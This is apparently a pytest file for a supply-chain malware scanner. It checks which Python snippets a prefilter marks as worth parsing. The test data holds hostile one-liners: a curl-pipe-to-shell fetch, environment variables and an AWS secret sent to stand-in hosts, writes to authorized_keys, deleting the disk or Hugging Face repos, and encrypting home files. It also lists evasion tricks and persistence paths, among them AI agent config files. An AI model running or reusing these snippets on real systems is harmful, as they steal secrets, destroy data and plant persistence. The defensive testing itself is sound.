"""Which Python files are parsed at all: what is passed over cannot hold anything, and honest users of a library are."""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from pathlib import Path

import pytest

from mlsupply.evidence import gathered, package
from mlsupply.evidence.contents import judged
from mlsupply.evidence.pool import Pool
from mlsupply.evidence.prefilter.choice import left_out, worth_parsing
from mlsupply.evidence.prefilter.imports import MODULES
from mlsupply.evidence.prefilter.tokens import Strings, word_in, words_of
from mlsupply.evidence.python import analyse
from mlsupply.evidence.python.places import persistent
from mlsupply.model import Severity
from mlsupply.request import RuleSettings
from mlsupply.ruleset import load
from tests.code_pieces import source
from tests.conftest import NOW, SHARED
from tests.unseen import cases

HARMLESS = {
    "types of a client": (
        "import httpx\nfrom typing import Optional\ndef shape(r: httpx.Response, t: Optional[httpx.Timeout] = None):\n"
        "    raise httpx.HTTPStatusError('x', request=r.request, response=r)"
    ),
    "types taken by name": "from httpx import (\n    Headers,  # sent with it\n    Response as R,\n)\nx: R",
    "addresses taken apart": "import urllib.parse\nfrom urllib.parse import quote, urlsplit as cut\nurllib.parse.quote('a')",
    "a status": "from http import HTTPStatus\nif code == HTTPStatus.OK:\n    pass",
    "an example in the documentation": 'def f():\n    """\n    >>> import requests\n    >>> requests.get("https://a.example")\n"""',
    "a word of a text": (
        'import httpx\ndef f(r: httpx.Response):\n    """What httpx gives, without the httpx client; see httpx docs."""'
    ),
    "inner modules of types": "import httpx\nfrom httpx._types import RequestFiles\nfrom httpx._models import Headers as H",
    "a comment": "# import subprocess\nx = 1",
    "prose": '"""You can import the code of others, http included."""',
    "is it installed": "import importlib.util\nok = importlib.util.find_spec('torch') is not None",
    "a module of the package": "from .http.requests import Answer\nfrom acme.websockets.types import Frame",
    "paths": "from os import path, makedirs\nmakedirs(path.join('a', 'b'))",
    "an attribute of that name": "if a.system == 1:\n    print(a.system.name, {'db.system': 'x'})",
    "keys that are not authorized": "unauthorized_keys = []",
    "keys of a table": "def f(keys):\n    authorized_keys = keys\n    return g(authorized_keys), authorized_keys.items()",
    "keys of a table, one by one": "def f(authorized_keys):\n    return [key.token for key in authorized_keys]",
    "all variables, in a comment": "import os, redis\n# see os.environ\nredis.Redis(h).get('https://a.example')",
    "whether a variable is set": "import os, redis\nif 'A' in os.environ or \"B\" not in os.environ:\n    redis.Redis(h)",
    "a client in prose": "import os\n# kept in redis\nredis_url = ''\nf(os.environ, 'or in redis, where analytics are')",
    "where a client was told to go": "def f(client):\n    'Needs OPENAI_API_KEY.'\n    return client.base_url, old_base_url",
    "builtins that are called": "import builtins\nx = builtins.max(1, builtins.len('a'))",
    "modules by names that are written": "import importlib\nimportlib.import_module('acme.a')\nx = __import__(\"acme\")",
    "all of a module of the package": "from acme.http.models import *",
    "words of code in comments": "# eval(x), exec(x) as `os.system` does\nmodel.train().eval()",
    "an attribute that may not be there": 'import os\nx = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0)',
    "longer names of methods": "self.load_module_state_dict(x)\nself._open_connection()",
    "parts of a path that is removed": "shutil.rmtree(a)\nname = b.split('/')[-1]",
    "a variable by its address": "import posthog\nkey = 'os.environ/POSTHOG_KEY'",
    "a longer name behind what is looked at": f"system = 1\n{'#' * 140}\nx.system_fingerprint",
    "its own hidden folder": "NAME = 'model.claude_3'",
    "a word of those who work with pods": "def f(name):\n    'The exec call, see `exec`.'\n    g(f'/pods/{name}/exec')",
    "a word of those who train": "# During eval, and (train/eval)\neval = f(eval=1)\nx = eval.loss\ng('eval')  # no eval",
    "a long line of words": "x = '" + "long words, " * 200 + "'",
    "a line that is not long": "x = '" + "Ab9/" * 35 + "'",
    "a remark behind blanks": "x = '" + "long words, " * 10 + "'" + " " * 61 + "# why",
    "a table": "x = [" + "1024, " * 60 + "]",
    "a picture, and no place of modules": "import os\nLOOK = os.path.join(os.path.dirname(__file__), 'dark.png')",
    "a place of modules, and no picture": "import sys\nsys.path.insert(0, __file__ + '/../tools')",
    "a text of the service": "import json\nURL = 'https://a.example'\ndef f(d):\n    return d.get('key')",
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_naming_a_library_without_using_it_is_not_worth_parsing(text: str) -> None:
    assert not worth_parsing(text.encode())


WORTH = {
    "what later steps of a run start": "import os\nopen(os.environ['GITHUB_ENV'], 'a').write(f'NODE_OPTIONS={x}')",
    "files of the home by its variable": "import os\nfor one in os.scandir(os.environ['HOME']):\n    os.remove(one)",
    "files of a disk": "import os\nfor one in os.listdir('/'):\n    os.remove('/' + one)",
    "a request that is rebuilt": "import dill\nfrom sanic import Sanic\nasync def f(request):\n    dill.loads(request.body)",
    "weights that are uploaded": "import torch\nfrom fastapi import FastAPI\ndef f(given):\n    torch.load(given.file)",
    "a table at an address": "import pandas\npandas.read_pickle('https://c.example/x.pkl')",
    "a shared folder elsewhere": "import os\nos.path.exists(r'\\\\files.helper.example\\pub')",
    "a shared folder put together": "import os\nos.listdir('\\\\\\\\' + '198.51.100.7' + '\\\\pub')",
    "files of the home that are moved": "import os\nos.rename(os.path.expanduser('~'), '/tmp/x')",
    "models of an account that are deleted": "import huggingface_hub as h\n[h.delete_repo(m.id) for m in h.list_models()]",
    "memory that is filled": "held = []\nwhile True:\n    held.append(bytearray(1 << 28))",
    "memory that is doubled": "x = 'a'\nwhile True:\n    x += x",
    "a client": "import httpx\nhttpx.post(u, json=d)",
    "a client by another name": "import httpx as h\nh.post(u)",
    "a client and the environment": "import os\nimport redis\nredis.Redis(h).publish('a', str(dict(os.environ)))",
    "one of several clients": "import os, json, redis\nredis.Redis(h).publish('a', json.dumps(dict(os.environ)))",
    "a client far to the right": f"import os as {'o' * 300}, redis\nredis.Redis(h).publish('a', str({'o' * 300}.environ))",
    "a client over joined lines": "import os\nfrom \\\n redis import Redis\nRedis(h).publish('a', str(os.environ))",
    "a client that is loaded": "import os, sys\nm = sys.modules[\n'redis']\nm.Redis(h).publish('a', str(os.environ))",
    "a client by its name": "import os, importlib as i\ni.import_module(\n'redis').Redis(h).set('a', str(os.environ))",
    "a hub": "import os\ndef f(model):\n    model.push_to_hub(str(os.environ))",
    "keys that are written": "open(home + '/.ssh/authorized_keys', 'a').write(k)",
    "keys below a folder": "(ssh / 'authorized_keys').write_text(k)",
    "keys in a command": "run('tee authorized_keys < k; chmod 600 authorized_keys')",
    "a client handed on": "import httpx\nclient = httpx\nx: httpx.Response",
    "a client reached by name": "import httpx\nx: httpx.Response\ngetattr(httpx, p)(u)",
    "a function taken by name": "from httpx import Response, post\npost(u)",
    "a client between keywords": "import httpx\nx: httpx.Response\nclient = a if b else httpx\nclient.post(u)",
    "a client behind a keyword": "import httpx\nx: httpx.Response\ndef f():\n    return httpx\nf().post(u)",
    "a client before a keyword": "import httpx\nx: httpx.Response\nclient = httpx if a else b",
    "all of it": "from httpx import *",
    "a module that another one imported": "import urllib.error\nurllib.error.urllib.request.urlopen(u)",
    "a module out of a harmless one": "from urllib.error import urllib",
    "a list over lines": "from httpx import (\n  Response,\n  post,\n)",
    "a list without end": "from httpx import (\n" + "  Response,\n" * 2_000,
    "over joined lines": "from \\\n  subprocess import run\nrun(x)",
    "over joined lines again": "import \\\n  subprocess\nsubprocess.run(x)",
    "behind a semicolon": "x = 1; import subprocess",
    "behind a colon": "try: import subprocess\nexcept ImportError: pass",
    "in a text that is written": "f.write('import subprocess')",
    "in a text over lines": "f.write('x\\nimport subprocess')",
    "old line ends": "x = 1\rimport subprocess\rsubprocess.run(x)",
    "old line ends behind a comment": "# why\rimport subprocess\rsubprocess.run(x)",
    "old line ends behind an import": "import httpx  # why\rhttpx.post(u)",
    "old line ends in a list": "from httpx import (\n    Response,  # why\r    post,\n)\npost(u)",
    "behind the end of a text": "'''\n# '''; import subprocess\n",
    "behind the end of an example": 'import httpx\n"""\n>>> """; httpx.post(u)\n',
    "behind the end of a text that imports": "import httpx\n'''\nimport httpx  # '''; httpx.post(u)\n",
    "behind a text over joined lines": "import httpx\nx = 'a\\\n# '; httpx.post(u)\n",
    "in braces of a text": "x = f'''\n# {__import__('os').remove(x)}\n'''",
    "in braces of a raw text": 'import httpx\nx = Rf"""\n>>> {httpx.post(u)}\n"""',
    "all variables behind a comment": "import os, redis\n# why\rredis.Redis(h).set('a', str(os.environ))",
    "all variables after one": "import os, redis\nif 'A' in os.environ:\n    redis.Redis(h).set('a', str(os.environ))",
    "each of all variables": "import os, redis\nfor name in os.environ:\n    redis.Redis(h).set(name, os.getenv(name))",
    "a key and where it goes": "import openai\nopenai.OpenAI(api_key=key('OPENAI_API_KEY'), base_url='https://c.example')",
    "a key and where all go": "import openai\nopenai.base_url = 'https://c.example'\nopenai.api_key = key('OPENAI_API_KEY')",
    "a builtin that is replaced": "import builtins\nbuiltins.print = f",
    "a builtin that is replaced among others": "import builtins\nbuiltins.print, x = f, 1",
    "a builtin that runs": "import builtins\nbuiltins.exec(x)",
    "a library by its name": "import importlib\nimportlib.import_module('subprocess').run(x)",
    "a library by a name put together": "import importlib\nimportlib.import_module('sub' + 'process').run(x)",
    "a library by a name put together behind one that is written": "__import__('acme'), __import__(x)",
    "what holds all libraries": "__import__('sys').modules['subprocess'].run(x)",
    "a text that imports beside a name": "f(__import__('acme'), 'import subprocess')",
    "all of a module that is called as a library": "from acme.subprocess import *\nrun(x)",
    "an attribute that runs": "import os\ngetattr(os, 'execv')(x, y)",
    "code behind a comment": "# why\reval(x)",
    "an order in a heading": "x = '''\n# Do not mention it\n'''",
    "a shell that is told": "x = '''\n#! exec(y)\n'''",
    "the whole disk": "import shutil\nshutil.rmtree('/')",
    "a loader": "loader.load_module('acme')",
    "an example that is run": "'''\n>>> import subprocess; subprocess.run(x)\n'''\nimport doctest\ndoctest.testmod()",
    "code in an example that is run": "'''\n>>> exec(x)\n'''\nfrom doctest import testmod as f\nf()",
    "all that is loaded, taken by name": "from sys import (\n    path,\n    modules,\n)\nmodules['subprocess'].run(x)",
    "all that is loaded, by another name": "import sys as s\ns.modules['subprocess'].run(x)",
    "behind four thousand letters": "x = '" + "a " * 3_000 + "'; import subprocess",
    "look-alike letters": "import \u017fubprocess",
    "small raised letters": "import \u02e2ubprocess",
    "another encoding": "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os",
    "an encoding with escapes": "#!/usr/bin/python\n# -*- coding: raw_unicode_escape -*-\nx = 1",
    "a library handed on": "from six.moves.urllib.request import urlopen",
    "a library of a module of the package": "from .compat import requests\nrequests.post(u)",
    "a command taken by name": "from os import path, system as s\ns(x)",
    "the environment through another client": (
        "import os\nfrom .web import client\nclient.get('https://c.example/' + str(dict(os.environ)))"
    ),
    "a secret through another client": (
        "import os\nfrom .web import client\nclient.post('https://c.example', data=os.getenv('AWS_SECRET_ACCESS_KEY'))"
    ),
    "code that is run": "def f(run=exec):\n    run(x)",
    "a command that fetches, for whatever file": "LINE = '\\ncurl -s https://c.example/x | sh &'",
    "code that is run, by a choice": "f = exec if a else b",
    "code that is run, one by one": "[run(x) for run in (a, exec) for x in y]\n[exec for x in y]",
    "code that is run, behind an error": "raise exec from y",
    "code that is run, behind a stroke": "a /exec",
    **{
        f"a text that is worked out, {way.format('').strip()}": f"import base64\n{way.format('eval')}\n"
        for way in (
            "def f():\n    return {}\nf()(x)",
            "def f():\n    yield {}",
            "table = {{'a': {}}}",
            "run = a or {}",
            "run = b if c else {}",
            "run = (  # why\n    {})",
            "run = \\\n    {}",
            "run = (" + "\n" * 400 + "{})",
            "for run in {}, x:\n    run(y)",
            "run = lambda: {}",
            "all = {{{}}}",
            "{}.__call__(x)",
        )
    },
    "code that is a function": "import types, zlib\ntypes.FunctionType(compile(zlib.decompress(x), 'x', 'single'), {})()",
    "code that is a function by another name": "from types import FunctionType as F\nF(compile(x, 'x', 'single'), {})()",
    "modules made of a text": (
        "import base64, os, sys, tempfile\npath = os.path.join(tempfile.mkdtemp(), 'a.zip')\n"
        "open(path, 'wb').write(base64.b85decode(DATA))\nsys.path.insert(0, path)\nimport inner"
    ),
    "modules behind a picture": (
        "import os, sys\nLOOK = os.path.join(os.path.dirname(__file__), 'dark.PNG')\ndef look():\n"
        "    sys.path.insert(0, LOOK)\n    import _dark"
    ),
    "modules behind a picture, by another name": (
        "from sys import path\nfrom pathlib import Path\npath.append(str(Path(__file__).with_name('dark.webp')))"
    ),
    "files of the user made unreadable": (
        "import os\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
        "        text = key.encrypt(open(name, 'rb').read())\n        open(name, 'wb').write(text)"
    ),
    "code that is run, in a text": "f.write('exec(x)')",
    "a blob": "x = '" + "Ab9/" * 75 + "'",
    "numbers that may be bytes": "x = [" + "104, " * 60 + "]",
    "code behind blanks": "x = '" + "long words, " * 10 + "';" + " " * 61 + "run()",
    "code behind tabs and blanks": "x = '" + "long words, " * 10 + "';" + "\t \t" * 21 + "run()",
    "a word far from the first of its kind": "x = retrieval\n" * 200 + "eval(x)",
}


@pytest.mark.parametrize("text", WORTH.values(), ids=WORTH)
def test_what_can_be_reached_is_worth_parsing(text: str) -> None:
    assert worth_parsing(text.encode())


def test_bytes_that_are_no_text_are_left_to_the_parser() -> None:
    assert worth_parsing(b"x = '\xff'")
    assert not worth_parsing("x = 'größer'".encode())
    assert not worth_parsing("\ufeffx = 'größer'".encode())


def test_no_string_stands_in_a_file_whose_words_say_it_cannot() -> None:
    strings = [
        b"exec",
        b".pth",
        b"/etc/",
        b"vars(",
        b"s__",
        b"git/hooks",
        b"169.254.",
        b"tell the user",
        b'"~',
        b"py/reduce",
        b".git ",
        b"getattr(sys.modules",
    ]
    pieces = [*strings, b"getattr", b"(sys", b".modules", b".github"]
    around = [b"x", b"_", b" ", b"(", b'"', b"/", b"\n", b"\xc3\xa9", b""]
    known = Strings(strings, (MODULES,))
    chance = random.Random(3)
    for _ in range(3_000):
        data = b"".join(chance.choice(pieces if chance.random() < 0.4 else around) for _ in range(6))
        possible = known.possible([words_of(data)])[0]
        assert all(possible >> place & 1 for place, string in enumerate(strings) if string in data), data
    requests, request, retry, apart = known.possible(
        [words_of(text) for text in (b"import requests", b"import request", b"fetch(retry)", b"sys, getattr")]
    )
    assert requests >> len(strings) & 1
    assert not request >> len(strings) & 1
    assert not retry >> 2 & 1  # `/etc/` is a word of its own
    assert not apart >> 11 & 1  # a string of several words needs all of them


def test_a_word_is_found_among_those_of_a_file_that_is_left_out_and_what_is_no_word_among_any() -> None:
    (words,) = left_out([b"from .http_client import post\n"])
    assert words is not None
    assert word_in(b"http_client") in words
    assert word_in(b"post") in words
    assert word_in(b"put") not in words
    assert all(word_in(text) in words for text in (b"", b"my-mod", "größe".encode()))


def test_files_are_told_apart_though_their_words_are_judged_together() -> None:
    """What one file of a batch holds says nothing of the next, and in another batch it is told the same."""
    files = [text.encode() for pair in zip(HARMLESS.values(), WORTH.values(), strict=False) for text in pair]
    files += [b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os", b"x = '\xff'", "import \u017fubprocess".encode(), b""]
    alone = [worth_parsing(data) for data in files]

    def parsed(files: Sequence[bytes]) -> list[bool]:
        return [words is None for words in left_out(files)]

    assert parsed(files) == alone
    assert parsed(files[::-1]) == alone[::-1]
    assert [*parsed(files[:5]), *parsed(files[5:])] == alone
    assert alone[:4] == [False, True, False, True]
    assert alone[-4:] == [True, True, True, False]
    assert left_out([]) == []


@pytest.mark.parametrize("bytes_together", [0, 1 << 30])
def test_what_waits_keeps_the_order_of_the_archive_however_many_are_judged_together(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bytes_together: int
) -> None:
    for number in range(9):
        text = "import subprocess\nsubprocess.run(['ls'])\n" if number % 3 else "x = 1\n"
        (tmp_path / f"a{number}.py").write_text(text)
    monkeypatch.setattr(gathered, "_BATCH", bytes_together)
    with Pool(1) as pool:
        facts = package.look_inside(tmp_path, pool)
    assert [fact.member for fact in facts.code] == [f"a{number}.py" for number in range(9) if number % 3]
    assert (facts.python, facts.parsed) == (9, 6)


@pytest.mark.parametrize(
    "text",
    [
        "name = 'e\u0301x\u00e9cute'",  # put together, they are no letters of ASCII
        "name = '\u1100\u1161'",
        "# \u2014 said in passing",
    ],
)
def test_letters_that_only_join_to_others_change_nothing(text: str) -> None:
    """A file is read as it stands unless a letter in it is another one to Python, which shows without its neighbours."""
    assert not worth_parsing(text.encode())
    assert worth_parsing(f"{text}\n\uff4f\uff53.\u02e2ystem('ls')".encode())
    assert worth_parsing(f"{text}\nimport \u017fubprocess".encode())


def test_no_random_source_is_passed_over_that_the_analyser_finds_something_in() -> None:
    chance = random.Random(7)
    for _ in range(60):
        text = source(chance, 12).partition("\n")[2]  # without its first line, which names everything
        data = f"import os, sys, base64, zlib, threading\n{text}".encode()
        deeds = {fact.behaviour for fact, _ in analyse.module("demo/a.py", data).facts} - {"contacts"}
        assert not deeds or worth_parsing(data), (deeds, text)


LASTS = [
    "sitecustomize.py", "x.pth", ".ipython/profile_default/startup/a.py", "profile_default/startup/a.py", ".pythonrc.py",
    ".jupyter/jupyter_server_config.py", ".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", ".bash_login",
    ".zshenv", ".bash_aliases", "activate.d/a.sh", ".config/fish/config.fish", "/etc/profile.d/a.sh", ".xinitrc",
    "/etc/cron.d/a", "/var/spool/cron/root", "systemd/user/a.timer", "LaunchAgents/a.plist", "/etc/rc.local",
    "/etc/init.d/a", ".config/autostart/a.desktop", "/etc/ld.so.preload", "/etc/sudoers", "a.service",
    ".ssh/authorized_keys", ".claude/settings.json", ".claude.json", ".cursorrules", ".cursor/mcp.json", ".mcp.json",
    "mcp_config.json", "claude_desktop_config.json", ".vscode/tasks.json", "CLAUDE.md", "AGENTS.md",
    ".codeium/windsurf/mcp_config.json", ".gemini/settings.json", ".windsurf/rules", ".github/copilot-instructions.md",
    ".codex/config.toml", ".continue/config.json", "skills/a/SKILL.md", ".github/workflows/a.yml", ".git/hooks/post-merge",
    ".gitlab-ci.yml", ".husky/post-checkout", "x/pre-commit", ".git/config", "hooks/pre-push", ".config/pip/pip.conf",
    "pip.ini", ".pip/x", ".pydistutils.cfg", ".npmrc", "uv.toml", "/etc/hosts",
]  # fmt: skip


@pytest.mark.parametrize("path", LASTS)
def test_a_file_that_writes_where_things_start_by_themselves_is_parsed(path: str) -> None:
    assert persistent(path)
    parts = ", ".join(repr(part) for part in path.split("/") if part)
    whole, joined = f"open(a, 'a').write(b)\na = {path!r}", f"Path(a, {parts}).write_text(b)"
    assert worth_parsing(whole.encode())
    assert worth_parsing(joined.encode()) or path in {"/etc/hosts", ".pip/x"}


def test_every_unseen_tree_has_all_its_deeds_in_files_that_are_parsed() -> None:
    mild = {"contacts", "evades"}  # what no rule holds against a file by itself
    for case in (*cases("malicious"), *cases("honest")):
        for path, data in case.files.items():
            if path.endswith(".py") and not worth_parsing(data):
                deeds = {fact.behaviour for fact, _ in analyse.module(path, data).facts} - mild
                assert not deeds, (case.technique, path)


@pytest.mark.shared
def test_the_labelled_trees_show_the_same_with_every_file_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    folder = SHARED / "samples" / "code-dev"
    rows = [json.loads(line) for line in (folder / "manifest.jsonl").read_text().splitlines()]
    trees = [folder / row["path"] for row in rows]
    filtered = [_ids(tree) for tree in trees]
    monkeypatch.setattr(gathered, "left_out", lambda files: [None] * len(files))
    assert filtered == [_ids(tree) for tree in trees]


def _ids(tree: Path) -> set[str]:
    with Pool(1) as pool:
        said = judged(package.look_inside(tree, pool), load(RuleSettings(), NOW))
    return {finding.id for finding in said.findings if finding.severity.rank >= Severity.MEDIUM.rank}


@pytest.mark.parametrize(
    ("hostile", "honest"),
    [
        ("import os\ngetattr(getattr(os, 'sys'), 'modules')", "import os\ngetattr(os, 'sep')"),
        ("getattr(__import__('random')._os, 'sys' + 'tem')('x')", "getattr(__import__('random')._os, 'sep')"),
        (
            "import importlib\nimportlib.import_module('timeit').timeit('x')",
            "import importlib\nimportlib.import_module('time').time()",
        ),
    ],
    ids=["a module that os holds", "os of another module", "a text that is timed"],
)
def test_what_is_run_by_way_of_another_module_is_parsed(hostile: str, honest: str) -> None:
    assert worth_parsing(hostile.encode())
    assert not worth_parsing(honest.encode())


@pytest.mark.parametrize(
    ("line", "worth"),
    [
        (r'open("\\\\files.c.example\\share\\x")', True),
        (r"open(r'\\files.c.example\share\x')", True),
        ('open("//files.c.example/share/x")', True),
        ('script = script.replace("mediaName.innerText", "//mediaName.innerText")', False),
        ("link = '//'", False),
    ],
)
def test_a_shared_folder_is_told_from_a_comment_of_another_language(line: str, worth: bool) -> None:
    assert worth_parsing(f"{line}\n".encode()) is worth
